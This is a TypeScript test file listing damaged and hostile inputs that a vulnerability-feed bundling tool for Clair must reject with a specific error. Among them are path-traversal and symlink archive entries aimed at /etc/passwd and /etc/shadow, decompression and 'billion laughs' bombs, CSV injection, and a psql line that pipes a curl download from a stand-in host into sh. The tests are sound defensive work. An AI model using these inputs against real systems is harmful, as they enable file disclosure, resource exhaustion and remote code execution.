import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import {
  BAD_UTF8, JSON_NUL, NUL, gzip, insertAfter, makeTar, makeZip, readZipEntries, replaceOnce, tarGzBomb, truncate,
} from './derive.js';

/**
 * The bad-input corpus (README "Reliability and security"). Feed cases damage one file of a
 * mirror fetched from the shared real fixtures; `build` must exit 3 with one error line naming
 * the file (and the record or archive entry where there is one) and write no bundle. Bundle cases
 * damage a bundle built from those mirrors; `load` must exit with the documented code (3 before
 * any connection, 5 once the database refused a row), name the file (and line/record), and leave
 * Clair's tables as they were.
 */
const REPO = path.resolve(import.meta.dirname, '../../..');
const RHEL_VEX_FIXTURES = path.join(REPO, 'test', 'fixtures', 'rhel-vex');

export interface FeedCase {
  feed: string;
  name: string;
  /** Mirror-relative path (regex) of the file to damage. */
  file: RegExp;
  derive: (original: Buffer, abs: string) => Promise<Buffer> | Buffer;
  /** What the one error line must say besides naming the file. */
  message: RegExp;
  /**
   * Invalid UTF-8 inside a JSON or XML string: claircore's Go decoders replace it with U+FFFD
   * and go on; a build that does the same (and writes only valid UTF-8) handles it correctly.
   */
  mayAcceptReplaced?: boolean;
  /** The error names this instead of the damaged file (e.g. the archive entry inside it). */
  names?: RegExp;
}

const fixture = (name: string) => () => readFile(path.join(RHEL_VEX_FIXTURES, name));

/** A real CSAF document from the mirror, for hostile archives around real content. */
async function realVexDoc(abs: string): Promise<Buffer> {
  return readFile(path.join(path.dirname(abs), '2023', 'cve-2023-2454.json'));
}

/** A DOCTYPE whose nested entities expand to 10^9 characters, referenced from the first title. */
function billionLaughs(b: Buffer): Buffer {
  const entities = ['<!ENTITY l0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');
  return insertAfter(replaceOnce(b, /<oval_definitions/, (m) => `<!DOCTYPE oval_definitions [${entities}]>\n${m}`), '<title>', Buffer.from('&l9;'));
}

export const FEED_CASES: FeedCase[] = [
  // rhel-vex: tar.zst archive, loose CSAF JSON documents, changes/deletions CSV, archive_latest.txt
  { feed: 'rhel-vex', name: 'archive truncated', file: /csaf_vex_.*\.tar\.zst$/, derive: (b) => truncate(b), message: /truncated or corrupt archive/ },
  { feed: 'rhel-vex', name: 'archive entry ../x.json (path traversal)', file: /csaf_vex_.*\.tar\.zst$/, derive: fixture('dotdot.tar.zst'), message: /entry \.\.\/x\.json.*escapes the archive/ },
  {
    feed: 'rhel-vex', name: 'archive entry with an absolute path', file: /csaf_vex_.*\.tar\.zst$/,
    derive: async (_b, abs) => makeTar([{ name: '/etc/cron.d/2023-cve.json' }], [await realVexDoc(abs)]), message: /absolute or escapes the archive/,
  },
  {
    feed: 'rhel-vex', name: 'archive symlink entry pointing outside', file: /csaf_vex_.*\.tar\.zst$/,
    derive: async (_b, abs) => makeTar([{ name: '2023/cve-2023-2454.json', type: 'symlink', linkname: '../../../../etc/passwd' }, { name: '2023/cve-2023-0044.json' }], [null, await realVexDoc(abs)]),
    message: /symlink target "\.\.\/\.\.\/\.\.\/\.\.\/etc\/passwd" escapes the archive/,
  },
  {
    feed: 'rhel-vex', name: 'archive hard link entry pointing outside', file: /csaf_vex_.*\.tar\.zst$/,
    derive: async (_b, abs) => makeTar([{ name: '2023/cve-2023-2454.json', type: 'link', linkname: '../etc/shadow' }, { name: '2023/cve-2023-0044.json' }], [null, await realVexDoc(abs)]),
    message: /link target "\.\.\/etc\/shadow" escapes the archive/,
  },
  { feed: 'rhel-vex', name: 'zstd decompression bomb (9.7 KB → 300 MiB entry)', file: /csaf_vex_.*\.tar\.zst$/, derive: fixture('bomb.tar.zst'), message: /exceeds the limit|decompression bomb/ },
  { feed: 'rhel-vex', name: 'gzip decompression bomb (300 MiB entry)', file: /csaf_vex_.*\.tar\.zst$/, derive: () => tarGzBomb('2023/cve-2023-0000.json', 300 * 1024 * 1024), message: /exceeds the limit|decompression bomb/ },
  { feed: 'rhel-vex', name: 'zstd frame with a 128 MiB window', file: /csaf_vex_.*\.tar\.zst$/, derive: fixture('window-128m.tar.zst'), message: /zstd window/ },
  { feed: 'rhel-vex', name: 'CSAF document truncated', file: /2023\/cve-2023-2454\.json$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'rhel-vex', name: 'CSAF document with a NUL byte', file: /2023\/cve-2023-2454\.json$/, derive: (b) => insertAfter(b, '"cve": "CVE-2023', NUL), message: /./ },
  { feed: 'rhel-vex', name: 'CSAF document with an escaped NUL (\\u0000) in the CVE id', file: /2023\/cve-2023-2454\.json$/, derive: (b) => insertAfter(b, '"cve": "CVE-2023', JSON_NUL), message: /NUL/, names: /updater .*record CVE-\d+-\d+/ },
  { feed: 'rhel-vex', name: 'CSAF document with invalid UTF-8', file: /2023\/cve-2023-2454\.json$/, derive: (b) => insertAfter(b, '"cve": "CVE-2023', BAD_UTF8), message: /./, mayAcceptReplaced: true },
  { feed: 'rhel-vex', name: 'CSAF document of the wrong shape (vulnerabilities is an object)', file: /2023\/cve-2023-2454\.json$/, derive: (b) => replaceOnce(b, /"vulnerabilities": ?\[/, () => '"vulnerabilities": {"x": ['), message: /./ },
  { feed: 'rhel-vex', name: 'changes.csv with an injected quote', file: /changes\.csv$/, derive: (b) => replaceOnce(b, '"2025/cve-2025-58443.json"', () => '"2025/cve-2025-"58443.json"'), message: /changes\.csv.*line \d+/ },
  { feed: 'rhel-vex', name: 'changes.csv with an injected newline (three fields)', file: /changes\.csv$/, derive: (b) => replaceOnce(b, '"2025/cve-2025-58443.json",', () => '"2025/cve-2025-58443.json",x,'), message: /changes\.csv.*line 1.*wrong number of fields/ },
  { feed: 'rhel-vex', name: 'changes.csv naming ../../etc/passwd (path traversal)', file: /changes\.csv$/, derive: (b) => replaceOnce(b, '"2025/cve-2025-58443.json"', () => '"2025/../../../../etc/passwd"'), message: /changes\.csv.*line 1: (error parsing year|document path .* is not a plain relative path)/ },
  { feed: 'rhel-vex', name: 'deletions.csv with a bad time', file: /deletions\.csv$/, derive: (b) => replaceOnce(b, /20\d\d-\d\d-\d\dT/, () => '20XX-07-1XT'), message: /deletions\.csv.*line 1.*bad time/ },
  { feed: 'rhel-vex', name: 'archive_latest.txt naming ../../etc/passwd', file: /archive_latest\.txt$/, derive: () => Buffer.from('../../etc/passwd\n'), message: /archive_latest\.txt.*not a plain relative path/ },

  // rhel-mappings: repository-to-cpe.json
  { feed: 'rhel-mappings', name: 'repository-to-cpe.json truncated', file: /repository-to-cpe\.json$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'rhel-mappings', name: 'repository-to-cpe.json with a NUL byte', file: /repository-to-cpe\.json$/, derive: (b) => insertAfter(b, '"cpe:/a:redhat:', NUL), message: /./ },
  { feed: 'rhel-mappings', name: 'repository-to-cpe.json of the wrong shape (data is a list)', file: /repository-to-cpe\.json$/, derive: (b) => Buffer.from(JSON.stringify({ data: [JSON.parse(b.toString()).data] })), message: /./ },

  // alpine: secdb JSON
  { feed: 'alpine', name: 'secdb JSON truncated', file: /v3\.20\/main\.json$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'alpine', name: 'secdb JSON with a NUL byte', file: /v3\.20\/main\.json$/, derive: (b) => insertAfter(b, '"name": "', NUL), message: /./ },
  { feed: 'alpine', name: 'secdb JSON with an escaped NUL in a package name', file: /v3\.20\/main\.json$/, derive: (b) => insertAfter(b, '"name": "', JSON_NUL), message: /NUL/, names: /updater .*record CVE-\d+-\d+/ },
  { feed: 'alpine', name: 'secdb JSON with invalid UTF-8 in a package name', file: /v3\.20\/main\.json$/, derive: (b) => insertAfter(b, '"name": "', BAD_UTF8), message: /./, mayAcceptReplaced: true },
  { feed: 'alpine', name: 'secdb JSON of the wrong shape (packages is an object)', file: /v3\.20\/main\.json$/, derive: (b) => replaceOnce(b, /"packages": ?\[/, () => '"packages": {"x": ['), message: /./ },

  // debian: security tracker JSON, dists Release
  { feed: 'debian', name: 'tracker JSON truncated', file: /tracker\/data\/json$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'debian', name: 'tracker JSON with a NUL byte', file: /tracker\/data\/json$/, derive: (b) => insertAfter(b, '"description": "', NUL), message: /./ },
  { feed: 'debian', name: 'tracker JSON with invalid UTF-8', file: /tracker\/data\/json$/, derive: (b) => insertAfter(b, '"description": "', BAD_UTF8), message: /./, mayAcceptReplaced: true },

  // ubuntu: OVAL XML, Launchpad series JSON
  { feed: 'ubuntu', name: 'OVAL XML truncated', file: /\.oval\.xml$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'ubuntu', name: 'OVAL XML with a mismatched tag', file: /\.oval\.xml$/, derive: (b) => replaceOnce(b, '</title>', () => '</titel>'), message: /./ },
  { feed: 'ubuntu', name: 'OVAL XML with a NUL byte', file: /\.oval\.xml$/, derive: (b) => insertAfter(b, '<title>', NUL), message: /./ },
  { feed: 'ubuntu', name: 'OVAL XML with invalid UTF-8', file: /\.oval\.xml$/, derive: (b) => insertAfter(b, '<title>', BAD_UTF8), message: /./, mayAcceptReplaced: true },
  { feed: 'ubuntu', name: 'OVAL XML entity expansion bomb ("billion laughs")', file: /\.oval\.xml$/, derive: (b) => billionLaughs(b), message: /./ },
  { feed: 'ubuntu', name: 'Launchpad series JSON truncated', file: /ubuntu\.launchpad\/ubuntu\/series$/, derive: (b) => truncate(b), message: /./ },

  // osv: all.zip per ecosystem (JSON entries), ecosystems.txt
  { feed: 'osv', name: 'all.zip truncated', file: /npm\/all\.zip$/, derive: (b) => truncate(b), message: /./ },
  {
    feed: 'osv', name: 'zip entry ../../x.json (path traversal)', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip((await readZipEntries(abs)).map((e, i) => (i === 0 ? { ...e, name: `../../${e.name}` } : e))), message: /escapes the archive/,
  },
  {
    feed: 'osv', name: 'zip entry with an absolute path', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip((await readZipEntries(abs)).map((e, i) => (i === 0 ? { ...e, name: `/tmp/${e.name}` } : e))), message: /absolute or escapes the archive/,
  },
  {
    feed: 'osv', name: 'zip bomb (one entry of 100 MiB zeros)', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip([...(await readZipEntries(abs)), { name: 'GHSA-zzzz-zzzz-zzzz.json', data: Buffer.alloc(100 * 1024 * 1024) }]), message: /exceeds the limit|zip bomb/,
  },
  {
    feed: 'osv', name: 'zip entry whose header understates its size', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip((await readZipEntries(abs)).map((e, i) => (i === 0 ? { ...e, declaredSize: 10 } : e))), message: /./,
  },
  {
    feed: 'osv', name: 'zip entry holding truncated JSON', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip((await readZipEntries(abs)).map((e, i) => (i === 0 ? { ...e, data: truncate(e.data) } : e))), message: /./,
  },
  {
    feed: 'osv', name: 'zip entry with a NUL byte', file: /npm\/all\.zip$/,
    derive: async (_b, abs) => makeZip((await readZipEntries(abs)).map((e, i) => (i === 0 ? { ...e, data: insertAfter(e.data, /"id": ?"/, NUL) } : e))), message: /./,
  },

  // oracle: OVAL XML in bzip2; photon: plain OVAL XML
  { feed: 'oracle', name: 'OVAL .xml.bz2 truncated', file: /\.xml\.bz2$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'oracle', name: 'OVAL .xml.bz2 that is not bzip2', file: /\.xml\.bz2$/, derive: (b) => gzip(b), message: /./ },
  { feed: 'photon', name: 'OVAL XML truncated', file: /photon3\.xml$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'photon', name: 'OVAL XML with a NUL byte', file: /photon3\.xml$/, derive: (b) => insertAfter(b, '<title>', NUL), message: /./ },

  // aws: mirror.list, repomd.xml, updateinfo.xml.gz
  { feed: 'aws', name: 'updateinfo.xml.gz truncated', file: /updateinfo\.xml\.gz$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'aws', name: 'updateinfo.xml.gz with a mismatched tag', file: /updateinfo\.xml\.gz$/, derive: (b) => gzip(replaceOnce(gunzipSync(b), '</title>', () => '</titel>')), message: /./ },
  { feed: 'aws', name: 'repomd.xml truncated', file: /repomd\.xml$/, derive: (b) => truncate(b), message: /./ },

  // cvss: NVD JSON 2.0 yearly feed (gzip) and its .meta; epss: CSV (gzip); kev: JSON
  { feed: 'cvss', name: 'NVD feed .json.gz truncated', file: /nvdcve-2\.0-2021\.json\.gz$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'cvss', name: 'NVD feed JSON with a NUL byte', file: /nvdcve-2\.0-2021\.json\.gz$/, derive: (b) => gzip(insertAfter(gunzipSync(b), /"id": ?"CVE-/, NUL)), message: /./ },
  { feed: 'epss', name: 'EPSS .csv.gz truncated', file: /epss_scores-.*\.csv\.gz$/, derive: (b) => truncate(b, 0.3), message: /./ },
  { feed: 'epss', name: 'EPSS CSV with an injected quote', file: /epss_scores-.*\.csv\.gz$/, derive: (b) => gzip(replaceOnce(gunzipSync(b), 'CVE-2020-5902', () => 'CVE-2020-"5902')), message: /./ },
  { feed: 'kev', name: 'KEV JSON truncated', file: /known_exploited_vulnerabilities\.json$/, derive: (b) => truncate(b), message: /./ },
  { feed: 'kev', name: 'KEV JSON with a NUL byte', file: /known_exploited_vulnerabilities\.json$/, derive: (b) => insertAfter(b, '"cveID": "', NUL), message: /./ },
  { feed: 'kev', name: 'KEV JSON with an escaped NUL in a CVE id', file: /known_exploited_vulnerabilities\.json$/, derive: (b) => insertAfter(b, '"cveID": "', JSON_NUL), message: /./ },
];


// ---- bundle cases -------------------------------------------------------------------------

export interface BundleCase {
  name: string;
  /** Damages the bundle copy in `dir`. */
  mutate: (dir: string) => Promise<void>;
  exit: 3 | 5;
  /** The one error line: names the file (and record/line) and says what is wrong. */
  message: RegExp;
}

interface ManifestShape {
  format: string;
  digest: string;
  files: { path: string; sha256: string; size: number }[];
  updaters: { name: string; kind: string; file: string; rows: number; sha256: string; fingerprint: string; aliases?: { file: string; rows: number; sha256: string } }[];
  mappings: { file: string; sha256: string }[];
}

const mpath = (dir: string) => path.join(dir, 'manifest.json');
async function manifestOf(dir: string): Promise<ManifestShape> {
  return JSON.parse(await readFile(mpath(dir), 'utf8')) as ManifestShape;
}
async function saveManifest(dir: string, m: ManifestShape, fixDigest = true): Promise<void> {
  const { bundleDigest } = await import('../../../src/bundle/manifest.js');
  if (fixDigest) m.digest = bundleDigest(m.files);
  await writeFile(mpath(dir), JSON.stringify(m) + '\n');
}

/** The first file of a kind (vulnerabilities/, aliases/, enrichments/, mappings/) with rows. */
async function fileOf(dir: string, kind: 'vulnerabilities' | 'aliases' | 'enrichments' | 'mappings'): Promise<string> {
  const m = await manifestOf(dir);
  const pick = kind === 'mappings' ? m.mappings.map((x) => x.file)
    : kind === 'aliases' ? m.updaters.filter((u) => u.aliases && u.aliases.rows > 2).map((u) => u.aliases!.file)
      : m.updaters.filter((u) => u.file.startsWith(kind) && u.rows > 2).map((u) => u.file);
  if (!pick[0]) throw new Error(`corpus: the base bundle has no ${kind} file`);
  return pick[0];
}

/**
 * Rewrites a bundle file AND the manifest to match (sha256, size, rows, digest), as a careless or
 * malicious bundle author could: the checksums pass; what is left to catch it is the content check.
 */
async function consistently(dir: string, file: string, edit: (b: Buffer) => Buffer, rowsDelta = 0): Promise<void> {
  const { createHash } = await import('node:crypto');
  const abs = path.join(dir, ...file.split('/'));
  const data = edit(await readFile(abs));
  await writeFile(abs, data);
  const m = await manifestOf(dir);
  const sha256 = createHash('sha256').update(data).digest('hex');
  for (const f of m.files) if (f.path === file) Object.assign(f, { sha256, size: data.length });
  // The updater's fingerprint changes with its rows (as the writer derives it), so the load reads it.
  for (const u of m.updaters) {
    if (u.file === file) Object.assign(u, { sha256, rows: u.rows + rowsDelta, fingerprint: sha256 });
    if (u.aliases?.file === file) Object.assign(u.aliases, { sha256, rows: u.aliases.rows + rowsDelta });
    if (u.aliases?.file === file) u.fingerprint = sha256;
  }
  for (const x of m.mappings) if (x.file === file) x.sha256 = sha256;
  await saveManifest(dir, m);
}

/** Line `n` (1 = header) of a CSV, edited. */
const line = (n: number, edit: (l: string) => string) => (b: Buffer) => {
  const lines = b.toString('latin1').split('\n');
  lines[n] = edit(lines[n]);
  return Buffer.from(lines.join('\n'), 'latin1');
};
/** Replace the `k`-th (0-based) field of a CSV line whose fields are all quoted or empty. */
const field = (k: number, value: string) => (l: string) => {
  const cells = l.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')).slice(0, -1);
  cells[k] = value;
  return cells.join(',');
};
const VULN = {
  hash: 0, normalized_severity: 7, package_name: 8,
};

export const BUNDLE_CASES: BundleCase[] = [
  { name: 'manifest digest wrong', exit: 3, message: /manifest digest does not match its file list.*manifest\.json/, mutate: async (d) => {
    const m = await manifestOf(d);
    m.digest = m.digest.replace(/^./, (c) => (c === '0' ? '1' : '0'));
    await saveManifest(d, m, false);
  } },
  { name: 'manifest with a file sha256 changed (digest recomputed)', exit: 3, message: /enrichments\/.*\.csv does not match its checksum in the manifest/, mutate: async (d) => {
    // A file the load reads (a changed updater's): one it would not read cannot change anything.
    const m = await manifestOf(d);
    const file = await fileOf(d, 'enrichments');
    m.files.find((f) => f.path === file)!.sha256 = '0'.repeat(64);
    await saveManifest(d, m);
  } },
  { name: 'wrong format version', exit: 3, message: /unsupported bundle format "clair-bundle\/v2"/, mutate: async (d) => {
    await writeFile(mpath(d), (await readFile(mpath(d), 'utf8')).replace('clair-bundle/v1', 'clair-bundle/v2'));
  } },
  { name: 'manifest truncated', exit: 3, message: /manifest\.json is not valid JSON/, mutate: async (d) => writeFile(mpath(d), truncate(await readFile(mpath(d)))) },
  { name: 'manifest missing (an unfinished bundle)', exit: 3, message: /manifest\.json not found/, mutate: async (d) => (await import('node:fs/promises')).rm(mpath(d)) },
  { name: 'manifest listing ../../etc/passwd', exit: 3, message: /unsafe path "\.\.\/\.\.\/etc\/passwd"/, mutate: async (d) => {
    const m = await manifestOf(d);
    m.files.push({ path: '../../etc/passwd', sha256: '0'.repeat(64), size: 1 });
    await saveManifest(d, m);
  } },
  { name: 'a CSV edited after the build', exit: 3, message: /vulnerabilities\/.*\.csv does not match its checksum/, mutate: async (d) => {
    const f = path.join(d, ...(await fileOf(d, 'vulnerabilities')).split('/'));
    await writeFile(f, line(2, (l) => l.replace(/"Low"|"Medium"|"High"|"Unknown"/, '"Critical"'))(await readFile(f)));
  } },
  { name: 'a data file missing', exit: 3, message: /aliases\/.*\.csv is missing/, mutate: async (d) => (await import('node:fs/promises')).rm(path.join(d, ...(await fileOf(d, 'aliases')).split('/'))) },
  { name: 'a data file replaced by a symlink to /etc/passwd', exit: 3, message: /vulnerabilities\/.*\.csv does not match its checksum/, mutate: async (d) => {
    const fs = await import('node:fs/promises');
    const f = path.join(d, ...(await fileOf(d, 'vulnerabilities')).split('/'));
    await fs.rm(f);
    await fs.symlink('/etc/passwd', f);
  } },
  { name: 'load.sql edited to contain data', exit: 3, message: /load\.sql does not match its checksum/, mutate: async (d) => {
    const f = path.join(d, 'load.sql');
    await writeFile(f, (await readFile(f, 'utf8')).replace('\\else\n', "\\else\nINSERT INTO vuln (updater, name) VALUES ('x', 'y');\n"));
  } },
  { name: 'load.sql edited to carry COPY … FROM STDIN data (manifest rewritten to match)', exit: 3, message: /load\.sql line \d+: (SQL COPY statement|psql meta-command \\\.)/, mutate: async (d) => {
    await consistently(d, 'load.sql', (b) => Buffer.from(b.toString().replace('COMMIT;\n\\endif', 'COPY vuln (name) FROM STDIN;\nCVE-0000-0000\n\\.\nCOMMIT;\n\\endif')));
  } },
  { name: 'load.sql edited to run a shell command (manifest rewritten to match)', exit: 3, message: /load\.sql line \d+: psql meta-command \\!/, mutate: async (d) => {
    await consistently(d, 'load.sql', (b) => Buffer.from(b.toString().replace('\\else\n', '\\else\n\\! curl http://example.invalid/x | sh\n')));
  } },
  { name: 'CSV with an injected quote', exit: 3, message: /vulnerabilities\/.*\.csv record 2: a (stray quote inside a quoted field|quote inside an unquoted field)/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(2, (l) => l.replace(/","/, '",x"')));
  } },
  { name: 'CSV with an injected newline (a row split in two)', exit: 3, message: /vulnerabilities\/.*\.csv record 3: \d+ fields, expected 29/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(3, (l) => l.replace(/","/, '"\n"')), 1);
  } },
  { name: 'CSV with an unquoted \\. line (COPY\'s end-of-data marker)', exit: 3, message: /aliases\/.*\.csv record 2: an unquoted \\\. line/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'aliases'), line(2, (l) => `\\.\n${l}`), 1);
  } },
  { name: 'CSV with a NUL byte', exit: 3, message: /enrichments\/.*\.csv record 1: a NUL byte/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'enrichments'), line(1, (l) => l.replace(/"CVE-/, '"CVE-\0')));
  } },
  { name: 'CSV with invalid UTF-8', exit: 3, message: /vulnerabilities\/.*\.csv record 4: invalid UTF-8/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), (b) => {
      const lines = b.toString('latin1').split('\n');
      lines[4] = lines[4].replace(/","/, '","\x80\xc0');
      return Buffer.from(lines.join('\n'), 'latin1');
    });
  } },
  { name: 'CSV header changed', exit: 3, message: /unexpected CSV header/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(0, (l) => l.replace('"severity"', '"severity2"')));
  } },
  { name: 'manifest row count off by one', exit: 3, message: /holds \d+ rows, the manifest says \d+/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), (b) => b, 1);
  } },
  { name: 'mapping document that is not JSON (manifest rewritten to match)', exit: 3, message: /mappings\/repository-to-cpe\.json is not valid JSON/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'mappings'), (b) => truncate(b));
  } },
  { name: 'a package name (3000 bytes, incompressible) too long for Clair\'s lookup index', exit: 5, message: /vulnerabilities\/.*\.csv: record \S+ \(hash [0-9a-f]{32}\): its package, distribution and repository fields do not fit one entry of Clair's vuln_lookup_idx \(index row size \d+ exceeds btree version 4 maximum 2704/, mutate: async (d) => {
    // (3000 bytes that compress well fit, as PostgreSQL compresses index entries: load.test.ts.)
    const { createHash } = await import('node:crypto');
    const noise = Array.from({ length: 94 }, (_, i) => createHash('md5').update(String(i)).digest('hex')).join('').slice(0, 3000);
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(2, field(VULN.package_name, `"${noise}"`)));
  } },
  { name: 'a normalized severity Clair cannot read', exit: 5, message: /vulnerabilities\/.*\.csv line 2: new row for relation "stage_vuln" violates check constraint "stage_vuln_normalized_severity_check"/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(1, field(VULN.normalized_severity, '"Huge"')));
  } },
  { name: 'a hash that is not hex', exit: 5, message: /vulnerabilities\/.*\.csv line 2: invalid hexadecimal digit/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'vulnerabilities'), line(1, field(VULN.hash, '"\\xZZ"')));
  } },
  { name: 'enrichment data that is not JSON', exit: 5, message: /enrichments\/.*\.csv line 2: invalid input syntax for type json/, mutate: async (d) => {
    await consistently(d, await fileOf(d, 'enrichments'), line(1, field(3, '"{not json"')));
  } },
];
